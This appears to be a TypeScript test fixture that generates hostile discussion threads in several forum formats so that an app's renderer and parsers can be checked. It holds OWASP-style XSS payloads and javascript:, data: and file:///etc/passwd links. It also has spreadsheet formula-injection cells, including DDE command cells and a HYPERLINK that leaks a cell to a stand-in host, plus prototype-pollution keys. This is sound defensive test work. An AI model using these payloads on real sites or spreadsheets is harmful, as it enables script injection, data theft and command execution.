/**
 * Hostile input for the security tests: script-injection payloads after the OWASP XSS filter
 * evasion cheat sheet, unsafe link targets, and small threads of every supported format that
 * carry them in every text field (body, author, title, URL/permalink). Payloads call alert() so
 * that a browser test notices any that runs; none of them may ever reach the page as markup.
 */

/** Markup payloads: scripts, event handlers, SVG, frames, styles, attribute break-outs, mXSS. */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<x onclick=alert(1) style="display:block;position:fixed;inset:0">click anywhere</x>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<base href="javascript:alert(1)//">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<STYLE>@import\'https://xss.invalid/xss.css\';</STYLE>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">styled</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">expression</DIV>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD>cell</TD></TABLE>',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
];

/** Link targets a page must never make clickable: script schemes in every disguise, data:, files. */
export const HOSTILE_HREFS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox("XSS")',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://xss.invalid/1',
  'ftp://xss.invalid/x',
  '"><script>alert(1)</script>',
  'https://xss.invalid/"onmouseover="alert(1)',
];

/** Schemes a link on the page may have. */
export const SAFE_SCHEMES: readonly string[] = ['http:', 'https:', 'mailto:'];

export const HOSTILE_TITLE = '</title><script>alert("title")</script><img src=x onerror=alert(1)> "><svg onload=alert(1)>';

/**
 * Cell values a spreadsheet would run as formulas (OWASP's CSV injection list): a leading =, +, -,
 * @, tab or carriage return, including the DDE and HYPERLINK forms that reach outside the sheet.
 */
export const FORMULA_CELLS: readonly string[] = [
  '=HYPERLINK("https://xss.invalid/?leak="&A1,"Click for details")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C notepad\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://xss.invalid/?", A2), "//a")',
];

/** Node ids that name members every plain object inherits; as map keys they read or write its prototype. */
export const PROTOTYPE_IDS: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** How many comments each hostile thread has: enough that every payload and href is used. */
export const HOSTILE_COMMENTS = Math.max(XSS_PAYLOADS.length, HOSTILE_HREFS.length);

const payload = (i: number): string => XSS_PAYLOADS[i % XSS_PAYLOADS.length]!;
const href = (i: number): string => HOSTILE_HREFS[i % HOSTILE_HREFS.length]!;
/** An author name: a different payload than the body's, so both fields are exercised. */
const author = (i: number): string => payload(i + 7);

/** Comment HTML carrying payload i and href i in several quoting styles. */
export function hostileHtml(i: number): string {
  const target = href(i);
  return `${payload(i)}<p>comment ${i} <a href="${target}">double ${i}</a> <a href='${target}'>single</a> <a href=${target.replace(/\s/g, '')}>bare</a></p>`;
}

/** Who replies to whom: every third comment under the root, the others under the one before. */
function parentIndex(i: number): number | null {
  return i % 3 === 0 ? null : i - 1;
}

const range = (n: number): number[] => Array.from({ length: n }, (_, i) => i);
const TIME = 1_600_000_000;
const ISO = new Date(TIME * 1000).toISOString();

function hnAlgolia(): string {
  const items = range(HOSTILE_COMMENTS).map((i) => ({
    id: 1001 + i,
    type: 'comment',
    author: author(i),
    created_at: ISO,
    created_at_i: TIME,
    text: hostileHtml(i),
    title: null,
    url: null,
    parent_id: null as number | null,
    story_id: 1000,
    points: null,
    options: [],
    children: [] as unknown[],
  }));
  const root = { id: 1000, type: 'story', author: payload(1), created_at: ISO, created_at_i: TIME, text: hostileHtml(0), title: HOSTILE_TITLE, url: href(0), parent_id: null, story_id: 1000, points: 1, options: [], children: [] as unknown[] };
  items.forEach((item, i) => {
    const p = parentIndex(i);
    item.parent_id = p === null ? 1000 : 1001 + p;
    (p === null ? root : items[p]!).children.push(item);
  });
  return JSON.stringify(root);
}

function hnFirebase(): string {
  const kids = new Map<number, number[]>();
  range(HOSTILE_COMMENTS).forEach((i) => {
    const p = parentIndex(i);
    const parentId = p === null ? 1000 : 1001 + p;
    kids.set(parentId, [...(kids.get(parentId) ?? []), 1001 + i]);
  });
  const story = { id: 1000, type: 'story', by: payload(2), time: TIME, title: HOSTILE_TITLE, url: href(1), text: hostileHtml(1), kids: kids.get(1000), descendants: HOSTILE_COMMENTS, score: 1 };
  const comments = range(HOSTILE_COMMENTS).map((i) => {
    const p = parentIndex(i);
    return { id: 1001 + i, type: 'comment', by: author(i), time: TIME, text: hostileHtml(i), parent: p === null ? 1000 : 1001 + p, kids: kids.get(1001 + i) };
  });
  return JSON.stringify([story, ...comments]);
}

/** Reddit escapes body_html once more unless asked not to: half the comments come that way. */
const escapeHtml = (html: string): string => html.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function reddit(): string {
  const things = range(HOSTILE_COMMENTS).map((i) => ({
    kind: 't1',
    data: {
      id: `c${i}`,
      name: `t1_c${i}`,
      parent_id: null as string | null,
      link_id: 't3_p1',
      author: author(i),
      created_utc: TIME,
      body: payload(i),
      body_html: i % 2 === 0 ? `<div class="md">${hostileHtml(i)}</div>` : escapeHtml(`<div class="md">${hostileHtml(i)}</div>`),
      permalink: href(i),
      replies: '' as unknown,
    },
  }));
  const top: unknown[] = [];
  things.forEach((thing, i) => {
    const p = parentIndex(i);
    thing.data.parent_id = p === null ? 't3_p1' : `t1_c${p}`;
    if (p === null) top.push(thing);
    else things[p]!.data.replies = { kind: 'Listing', data: { children: [thing] } };
  });
  const post = { kind: 't3', data: { id: 'p1', name: 't3_p1', title: HOSTILE_TITLE, author: payload(3), created_utc: TIME, selftext: payload(4), selftext_html: escapeHtml(hostileHtml(4)), is_self: false, url: href(2), permalink: href(3) } };
  // Reddit's own serializer escapes "<" and ">" as \u003c and \u003e in some answers.
  return JSON.stringify([{ kind: 'Listing', data: { children: [post] } }, { kind: 'Listing', data: { children: top } }]).replace(/</g, '\\u003c').replace(/>/g, '\\u003e');
}

function lobsters(): string {
  const comments = range(HOSTILE_COMMENTS).map((i) => {
    const p = parentIndex(i);
    return {
      short_id: `c${i}`,
      comment: hostileHtml(i),
      comment_plain: payload(i),
      created_at: ISO,
      url: href(i),
      short_id_url: href(i + 1),
      is_deleted: false,
      is_moderated: false,
      parent_comment: p === null ? null : `c${p}`,
      depth: p === null ? 0 : 1,
      commenting_user: i % 2 ? author(i) : { username: author(i) },
    };
  });
  return JSON.stringify({ short_id: 's1', title: HOSTILE_TITLE, url: href(4), description: hostileHtml(5), created_at: ISO, comments_url: href(5), short_id_url: href(6), submitter_user: { username: payload(6) }, comments });
}

function discourse(): string {
  const posts = [0, ...range(HOSTILE_COMMENTS).map((i) => i + 1)].map((n) => {
    const p = n === 0 ? null : parentIndex(n - 1);
    return {
      id: 5000 + n,
      post_number: n + 1,
      reply_to_post_number: n === 0 || p === null ? null : p + 2,
      cooked: hostileHtml(n),
      username: author(n),
      created_at: ISO,
      topic_id: 77,
      topic_slug: payload(n),
      post_url: href(n),
      // An internal link gives the forum's origin, so post_url is resolved against it.
      link_counts: [{ url: 'https://forum.invalid/t/x/77', internal: true }],
    };
  });
  return JSON.stringify({ id: 77, title: HOSTILE_TITLE, slug: payload(8), posts_count: posts.length, post_stream: { posts, stream: posts.map((post) => post.id) } });
}

function mastodon(): string {
  const status = (id: string, i: number, replyTo: string | null) => ({
    id,
    in_reply_to_id: replyTo,
    created_at: ISO,
    content: hostileHtml(i),
    spoiler_text: payload(i + 3),
    url: href(i),
    uri: href(i + 1),
    account: { acct: author(i), username: author(i) },
    media_attachments: [{ type: 'image', url: href(i + 2), description: payload(i + 5) }],
    poll: { options: [{ title: payload(i + 6) }] },
  });
  const descendants = range(HOSTILE_COMMENTS).map((i) => {
    const p = parentIndex(i);
    return status(String(9001 + i), i, p === null ? '9000' : String(9001 + p));
  });
  return JSON.stringify({ status: status('9000', 0, null), ancestors: [], descendants });
}

function aif(): string {
  const nodes: object[] = [];
  const edges: object[] = [];
  const locutions: object[] = [];
  const participants: object[] = [];
  const stamp = '2020-09-13 12:26:40';
  let edge = 0;
  const join = (fromID: string, toID: string) => edges.push({ edgeID: `e${edge++}`, fromID, toID, formEdgeID: null });
  range(HOSTILE_COMMENTS).forEach((i) => {
    nodes.push({ nodeID: `i${i}`, text: payload(i), type: 'I', timestamp: stamp });
    nodes.push({ nodeID: `l${i}`, text: `${author(i)} : ${payload(i)}`, type: 'L', timestamp: stamp });
    nodes.push({ nodeID: `ya${i}`, text: 'Asserting', type: 'YA', timestamp: stamp, scheme: 'Asserting' });
    join(`l${i}`, `ya${i}`);
    join(`ya${i}`, `i${i}`);
    locutions.push({ nodeID: `l${i}`, personID: `p${i}`, timestamp: stamp, start: null, end: null, source: href(i) });
    participants.push({ participantID: `p${i}`, firstname: author(i), surname: payload(i + 1) });
    if (i > 0) {
      const p = parentIndex(i) ?? 0;
      nodes.push({ nodeID: `ra${i}`, text: 'Default Inference', type: i % 2 ? 'RA' : 'CA', timestamp: stamp });
      join(`i${i}`, `ra${i}`);
      join(`ra${i}`, `i${p === i ? 0 : p}`);
    }
  });
  return JSON.stringify({ nodes, edges, locutions, participants });
}

function plainText(): string {
  const lines = [HOSTILE_TITLE, ''];
  range(HOSTILE_COMMENTS).forEach((i) => {
    lines.push(`${payload(i)} see https://ok.invalid/${i}"><script>alert(1)</script> and ${href(i).replace(/[\s\p{Cc}]/gu, '')}`);
    if (i % 4 === 3) lines.push('');
    if (i % 5 === 0) lines.push(`> ${payload(i + 2)}`);
  });
  return lines.join('\n');
}

function threadmap(): string {
  // The first nodes have the ids plain objects inherit, and formula cells as their author.
  const idOf = (n: number) => (n === 0 ? 'root' : (PROTOTYPE_IDS[n - 1] ?? `n${n}`));
  const nodes = [0, ...range(HOSTILE_COMMENTS).map((i) => i + 1)].map((n) => ({
    id: idOf(n),
    parent: n === 0 ? null : parentIndex(n - 1) === null ? 'root' : idOf(parentIndex(n - 1)! + 1),
    kind: n === 0 ? 'post' : 'comment',
    author: n >= 1 && n <= FORMULA_CELLS.length ? FORMULA_CELLS[n - 1]! : author(n),
    createdAt: ISO,
    text: payload(n),
    url: href(n),
    status: 'ok',
    html: hostileHtml(n),
    ...(n === 0 ? { title: HOSTILE_TITLE } : {}),
  }));
  const annotations = Object.fromEntries(nodes.slice(1, 7).map((node, i) => [node.id, { tag: 'pro', note: i % 2 === 0 ? payload(i + 9) : FORMULA_CELLS[i]!, updatedAt: ISO }]));
  return JSON.stringify({
    format: 'threadmap',
    version: 1,
    generator: payload(10),
    exportedAt: ISO,
    source: { kind: payload(11), url: href(7), title: HOSTILE_TITLE, retrievedAt: ISO },
    nodes,
    links: [{ from: 'constructor', to: '__proto__', kind: payload(12) }],
    annotations,
  });
}

export interface HostileDocument {
  /** The format the file is written in, as the app's parsers name it. */
  format: string;
  fileName: string;
  text: string;
}

/** One small thread per supported format, hostile in every text field. */
export function hostileDocuments(): HostileDocument[] {
  return [
    { format: 'hn-algolia', fileName: 'hostile-hn-algolia.json', text: hnAlgolia() },
    { format: 'hn-firebase', fileName: 'hostile-hn-firebase.json', text: hnFirebase() },
    { format: 'reddit', fileName: 'hostile-reddit.json', text: reddit() },
    { format: 'lobsters', fileName: 'hostile-lobsters.json', text: lobsters() },
    { format: 'discourse', fileName: 'hostile-discourse.json', text: discourse() },
    { format: 'mastodon', fileName: 'hostile-mastodon.json', text: mastodon() },
    { format: 'aif', fileName: 'hostile-aif.json', text: aif() },
    { format: 'text', fileName: 'hostile-thread.txt', text: plainText() },
    { format: 'threadmap', fileName: 'hostile.threadmap.json', text: threadmap() },
  ];
}
